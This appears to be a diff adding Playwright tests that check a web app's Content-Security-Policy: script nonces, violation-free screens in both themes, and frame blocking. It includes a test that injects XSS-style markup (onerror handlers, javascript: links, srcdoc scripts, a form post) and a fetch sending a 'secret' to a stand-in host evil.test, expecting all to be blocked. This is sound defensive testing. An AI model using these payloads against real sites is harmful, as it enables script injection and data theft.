@@ -1,0 +1,228 @@
+/** E: the Content-Security-Policy in a browser: it stops what it should, and nothing of ours. */
+import type { Page } from "@playwright/test";
+import { paths, pending, signedIn, someone } from "./attack-kit";
+import { Client } from "./client";
+import { expect, expectSignedIn, givePassword, signIn, test } from "./fixtures";
+import { startServer } from "./own-server";
+import { giveCode, openUserInformation, signOut, twoFactorBox } from "./steps";
+
+/** Collects what a page complains of: violations of its policy, console errors and warnings, errors that nobody caught. */
+async function listen(page: Page): Promise<string[]> {
+  const complaints: string[] = [];
+  await page.exposeFunction("tellViolation", (what: string) => complaints.push(what));
+  await page.addInitScript(() => {
+    const { tellViolation } = window as unknown as { tellViolation(what: string): void };
+    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) =>
+      tellViolation(`${effectiveDirective} ${blockedURI} ${sample}`),
+    );
+  });
+  page.on("console", (message) => {
+    if (["error", "warning"].includes(message.type())) complaints.push(message.text());
+  });
+  page.on("pageerror", (error) => complaints.push(String(error)));
+  return complaints;
+}
+
+/** A browser's own notes on answers that are meant: 401, 403, 404 and 500 are what some of the screens are about. */
+const meant = /^Failed to load resource: the server responded with a status of (401|403|404|500)/;
+const unexpected = (complaints: string[]) => complaints.filter((complaint) => !meant.test(complaint));
+
+test("every page route and every dead end has the answer's nonce on each script, and no style or handler in attributes", async ({
+  world,
+}) => {
+  const workgroup = await world.makeWorkgroup();
+  const admin = await signedIn(await someone(world, { role: "admin" }, workgroup));
+  const { client: waiting } = await pending(await someone(world, { twoFactorEnabled: true }));
+  const other = await signedIn(await someone(world, { role: "member" }, workgroup));
+  const deadEnds = [
+    "/nothing/here",
+    "/workgroups/x",
+    "/_not-found",
+    "/_error",
+    "/500",
+    "/%E0%A4%A",
+    "/account/nothing",
+  ];
+  const seen = new Set<string>();
+  for (const client of [admin, waiting, other, new Client()]) {
+    for (const path of [...paths("page.tsx", { workgroupId: workgroup.id }), ...deadEnds]) {
+      const { headers, text } = await client.send("GET", path);
+      if (!headers.get("content-type")?.startsWith("text/html")) continue;
+      seen.add(path);
+      const nonce = /'nonce-([^']+)'/.exec(headers.get("content-security-policy") ?? "")?.[1];
+      expect(nonce, path).toBeDefined();
+      const elements = [...text.matchAll(/<(?:script|style)\b[^>]*>/g)].map(([tag]) => tag);
+      expect(elements.length, path).toBeGreaterThan(3);
+      for (const tag of elements) expect(tag, path).toContain(`nonce="${nonce}"`);
+      expect(text, path).not.toMatch(/<[a-z][^<>]*\s(?:style|on[a-z]+)="/);
+    }
+  }
+  // None was left out because everybody was sent elsewhere.
+  expect([...seen].sort()).toEqual(
+    [...new Set([...paths("page.tsx", { workgroupId: workgroup.id }), ...deadEnds])].sort(),
+  );
+});
+
+for (const colorScheme of ["light", "dark"] as const) {
+  test(`no screen violates its policy, ${colorScheme}`, async ({ page, world, phone }) => {
+    test.slow();
+    const complaints = await listen(page);
+    await page.emulateMedia({ colorScheme });
+    const workgroup = await world.makeWorkgroup("APP4");
+    const person = await world.makePerson({
+      phone,
+      twoFactorEnabled: true,
+      memberships: [{ workgroup, role: "admin" }],
+    });
+    await page.goto("/sign-in");
+    await page.getByRole("link", { name: /forgot/i }).click();
+    await expect(page).toHaveURL("/password-reset");
+    await page.goto("/password-reset/not-a-link");
+    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
+    await page.goto("/undo-email/not-a-link");
+    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
+    await givePassword(page, person);
+    await giveCode(page, person.email);
+    await expectSignedIn(page);
+
+    await openUserInformation(page);
+    await twoFactorBox(page).uncheck();
+    await expect(page.getByLabel("Current password")).toBeVisible();
+    await page.getByRole("button", { name: "My account" }).click();
+    await page.getByRole("menuitemradio", { name: colorScheme === "light" ? "Dark" : "Light" }).click();
+    await page.keyboard.press("Escape");
+    for (const path of ["/account/password", "/account/sessions", "/account/activity"]) {
+      await page.goto(path);
+      await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
+    }
+    await page.goto(`/workgroups/${workgroup.id}`);
+    await twoFactorBox(page).check();
+    await expect(page.getByText("Of 1 member:")).toBeVisible();
+    await page.goto("/help/two-factor-authentication");
+    await page.goto("/nothing/here");
+    await expect(page.getByRole("heading", { name: "Page not found" })).toBeVisible();
+    // The theme that was chosen is drawn by the server.
+    await expect(page.locator("html")).toHaveAttribute("data-theme", colorScheme === "light" ? "dark" : "light");
+    await page.getByRole("link", { name: "LeadMaster" }).first().click();
+    await signOut(page);
+    expect(unexpected(complaints)).toEqual([]);
+  });
+}
+
+test("attack: markup that got into a page runs nothing, loads nothing and sends nothing away", async ({
+  page,
+  world,
+}) => {
+  const complaints = await listen(page);
+  await signIn(page, await someone(world));
+  const asked: string[] = [];
+  page.on("request", (request) => asked.push(request.url()));
+  const ran = await page.evaluate(async () => {
+    const holder = document.createElement("div");
+    holder.innerHTML = `
+      <img src="https://evil.test/x.png" onerror="window.ran = 'handler'">
+      <iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
+      <object data="https://evil.test/x"></object>
+      <base href="https://evil.test/">
+      <a id="evil" href="javascript:window.ran='link'">x</a>
+      <form id="form" action="https://evil.test/" method="post"></form>
+      <style>body { background: red }</style>
+      <p style="position: fixed; inset: 0">x</p>`;
+    document.body.append(holder);
+    const injected = document.createElement("script");
+    // As a parser would put it in: markup, not a call.
+    document.write?.call;
+    injected.textContent = "window.ran = 'inline'";
+    document.body.append(injected);
+    for (const code of ["eval", "Function"]) {
+      try {
+        (window as unknown as Record<string, (text: string) => unknown>)[code]?.("window.ran = 'eval'");
+      } catch {}
+    }
+    await fetch("https://evil.test/?secret").catch(() => {});
+    document.querySelector<HTMLElement>("#evil")?.click();
+    document.querySelector<HTMLFormElement>("#form")?.submit();
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    return (window as unknown as { ran?: string }).ran ?? "nothing";
+  });
+  expect(ran).toBe("nothing");
+  expect(asked.filter((url) => url.includes("evil.test"))).toEqual([]);
+  expect(page.url()).not.toContain("evil.test");
+  const directives = new Set(complaints.map((complaint) => complaint.split(" ", 1)[0]));
+  for (const directive of [
+    "script-src-attr",
+    "script-src-elem",
+    "img-src",
+    "style-src-elem",
+    "style-src-attr",
+    "connect-src",
+  ]) {
+    expect([...directives], directive).toContain(directive);
+  }
+});
+
+test("E11 attack: another site's page shows none of ours in a frame", async ({ page, world, baseURL }) => {
+  await signIn(page, await someone(world));
+  const screens = ["/account", "/sign-in/code", "/sign-in", "/nothing/here", "/api/account", "/icon.svg"];
+  const frames = screens.map((path) => `<iframe src="${baseURL}${path}"></iframe>`).join("");
+  await page.route("http://evil.test/", (route) => route.fulfill({ contentType: "text/html", body: frames }));
+  await page.goto("http://evil.test/", { waitUntil: "load" });
+  await expect.poll(() => page.frames().length).toBe(screens.length + 1);
+  for (const frame of page.frames().slice(1)) {
+    await expect.poll(() => frame.url()).toBe("chrome-error://chromewebdata/");
+  }
+});
+
+test("error pages run under the policy, in both themes and without a root layout", async ({ browser }) => {
+  // A database that is not there: every page of a session fails.
+  const server = await startServer({ databaseUrl: "postgres://nobody:x@127.0.0.1:1/nothing" });
+  try {
+    for (const colorScheme of ["light", "dark"] as const) {
+      for (const global of [false, true]) {
+        const context = await browser.newContext({ colorScheme });
+        const value = "A".repeat(43);
+        await context.addCookies([{ name: "leadmaster.session", value, url: server.origin }]);
+        const page = await context.newPage();
+        const complaints = await listen(page);
+        // The error page fails too, so that the global one has to stand in: it trips over the reference number.
+        if (global) await page.addInitScript(tripErrorPage);
+        const answer = await page.goto(`${server.origin}/account`);
+        expect(answer?.status()).toBe(500);
+        await expect(page.getByRole("heading", { name: "Something went wrong" })).toBeVisible();
+        expect(await page.title()).toBe(global ? "Something went wrong · LeadMaster" : await page.title());
+        const background = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
+        const lightness = Number(/\d+/.exec(background)?.[0] ?? 0);
+        expect(lightness > 128, `${background} in ${colorScheme}`).toBe(colorScheme === "light");
+        // Scripts run: the button works, and the answer is the same failure.
+        await page.getByRole("button", { name: "Try again" }).click();
+        await expect(page.getByRole("heading", { name: "Something went wrong" })).toBeVisible();
+        expect(complaints.filter((complaint) => /policy|-src|nonce/i.test(complaint))).toEqual([]);
+        await context.close();
+      }
+    }
+  } finally {
+    await server.stop();
+  }
+});
+
+/** Runs in the page. */
+function tripErrorPage(): void {
+  let left = 4;
+  const values = new WeakMap<object, unknown>();
+  Object.defineProperty(Error.prototype, "digest", {
+    configurable: true,
+    get(this: object) {
+      return values.get(this);
+    },
+    set(this: object, value: unknown) {
+      const tripping = {
+        toString() {
+          left -= 1;
+          if (left >= 0) throw new Error("the error page fails");
+          return String(value);
+        },
+      };
+      values.set(this, tripping);
+    },
+  });
+}
